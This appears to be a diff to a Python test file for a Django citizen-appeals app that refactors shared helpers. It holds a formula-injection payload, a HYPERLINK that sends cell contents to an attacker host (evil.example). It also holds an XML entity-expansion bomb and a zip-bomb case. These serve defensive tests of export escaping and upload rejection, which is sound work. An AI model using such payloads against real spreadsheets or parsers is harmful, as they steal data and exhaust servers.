@@ -14,22 +14,14 @@ from openpyxl import Workbook, load_workbook
 
 from gongzhi.appeals import category_import, imports
 from gongzhi.appeals.models import Appeal, Category
+from gongzhi.test import XLSX_SHEET, XML_ENTITY_BOMB, formula_cells
 
 from .conftest import submit
 
 pytestmark = pytest.mark.django_db
 
 
-def formula_cells(source: Any) -> list[str]:
-    """The cells ("Sheet!A2") of a workbook file that hold a formula (read back with openpyxl)."""
-    wb = load_workbook(source)
-    return [f"{ws.title}!{cell.coordinate}" for ws in wb.worksheets for row in ws.iter_rows() for cell in row
-            if cell.data_type == "f"]
-
 ATTACK = '=HYPERLINK("http://evil.example/steal?c="&A2,"查看详情")'
-SHEET = "xl/worksheets/sheet1.xml"
-ENTITIES = (b'<!DOCTYPE worksheet [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">'
-            b'<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">]>')
 
 
 def test_it_exports_a_worklist_with_a_formula_title_as_text(client: Any, cast: Any) -> None:
@@ -58,7 +50,7 @@ def _rewrite(content: bytes, change: Callable[[bytes], bytes]) -> io.BytesIO:
     with zipfile.ZipFile(io.BytesIO(content)) as source, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
         for info in source.infolist():
             data = source.read(info.filename)
-            target.writestr(info.filename, change(data) if info.filename == SHEET else data)
+            target.writestr(info.filename, change(data) if info.filename == XLSX_SHEET else data)
     out.seek(0)
     out.name = "upload.xlsx"
     return out
@@ -68,9 +60,9 @@ CATEGORY_ROW = ["市容环境类", "垃圾处理", "MARKER", "一般"]
 ORDER_ROW = ["BJ-X1", "MARKER", "小区垃圾未清运", "投诉", "一般", "", "", "", "张先生", "13800138000", "和平里社区", ""]
 
 BOMBS = {
-    "entities": (lambda xml: ENTITIES + xml.replace(b"MARKER", b"&c;"), "实体声明"),
+    "entities": (lambda xml: XML_ENTITY_BOMB + xml.replace(b"MARKER", b"&c;"), "实体声明"),
     "entities behind a comment": (
-        lambda xml: b"<!--" + b"x" * 10_000 + b"-->" + ENTITIES + xml.replace(b"MARKER", b"&c;"), "实体声明"),
+        lambda xml: b"<!--" + b"x" * 10_000 + b"-->" + XML_ENTITY_BOMB + xml.replace(b"MARKER", b"&c;"), "实体声明"),
     "zip bomb": (lambda xml: xml.replace(b"<sheetData>", b"<sheetData>" + b" " * (3 * 1024 * 1024)), "解压后超过 1 MB"),
 }
 
